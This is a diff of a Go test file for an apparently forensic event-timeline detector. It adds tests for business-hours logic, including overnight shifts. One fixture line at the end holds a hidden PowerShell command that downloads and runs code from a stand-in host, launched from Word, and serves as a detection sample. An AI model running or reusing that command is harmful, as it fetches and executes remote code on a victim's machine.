@@ -367,6 +367,40 @@ func TestBusinessHoursInTZ(t *testing.T) {
 	}
 }
 
+// TestOvernightBusinessHours: with business hours 22-06 (a night shift),
+// a Tuesday start at 23:30 or 03:00 is in hours, one at 12:00 is not.
+func TestOvernightBusinessHours(t *testing.T) {
+	for _, tt := range []struct {
+		ts   string
+		want int
+	}{{"2024-03-05T23:30:00Z", 0}, {"2024-03-05T03:00:00Z", 0}, {"2024-03-05T12:00:00Z", 1}, {"2024-03-05T06:00:00Z", 1}} {
+		db := newTimeline(t, []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: tt.ts}})
+		if _, err := Run(context.Background(), db, Options{BusinessStart: 22, BusinessEnd: 6}); err != nil {
+			t.Fatal(err)
+		}
+		var n int
+		db.QueryRow(`SELECT count(*) FROM findings WHERE title LIKE '%outside business hours%'`).Scan(&n)
+		if n != tt.want {
+			t.Errorf("%s with business hours 22-06: %d out-of-hours findings, want %d", tt.ts, n, tt.want)
+		}
+	}
+}
+
+func TestInBusinessHours(t *testing.T) {
+	for _, tt := range []struct {
+		hour, start, end int
+		want             bool
+	}{
+		{7, 8, 18, false}, {8, 8, 18, true}, {17, 8, 18, true}, {18, 8, 18, false},
+		{0, 0, 24, true}, {23, 0, 24, true}, {23, 18, 24, true}, {17, 18, 24, false},
+		{22, 22, 6, true}, {23, 22, 6, true}, {0, 22, 6, true}, {5, 22, 6, true}, {6, 22, 6, false}, {21, 22, 6, false},
+	} {
+		if got := inBusinessHours(tt.hour, tt.start, tt.end); got != tt.want {
+			t.Errorf("inBusinessHours(%d, %d, %d) = %v, want %v", tt.hour, tt.start, tt.end, got, tt.want)
+		}
+	}
+}
+
 func TestEvidenceAndIncidents(t *testing.T) {
 	db := newTimeline(t, []ev{
 		sysmon1(cmd, `C:\Program Files\Microsoft Office\WINWORD.EXE`, `cmd /c powershell -nop -w hidden -c iex(iwr http://x)`),
